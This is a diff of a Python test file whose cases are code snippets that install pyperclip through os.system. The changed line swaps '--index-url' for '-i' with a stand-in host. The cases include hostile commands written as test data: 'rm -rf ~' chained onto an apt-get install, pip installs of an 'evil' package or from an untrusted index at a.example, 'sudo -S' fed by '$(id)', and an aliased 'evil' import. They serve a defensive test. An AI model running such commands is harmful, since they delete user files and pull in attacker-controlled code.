@@ -139,7 +139,7 @@ def test_what_is_not_certain_stays_code(source: str) -> None:
         "    import os\n    os.system('sudo apt-get install -y xclip; rm -rf ~')\n    import pyperclip",
         "    import os\n    os.system('sudo apt-get install -y xclip && rm -rf ~')\n    import pyperclip",
         "    import os\n    os.system('pip install pyperclip evil')\n    import pyperclip",
-        "    import os\n    os.system('pip install --index-url http://a.example pyperclip')\n    import pyperclip",
+        "    import os\n    os.system('pip install -i http://a.example pyperclip')\n    import pyperclip",
         "    import os\n    os.system('echo $(id) | sudo -S apt-get install xclip')\n    import pyperclip",
         "    import evil as pyperclip",
         "    import os\n    os.system(command)\n    import pyperclip",
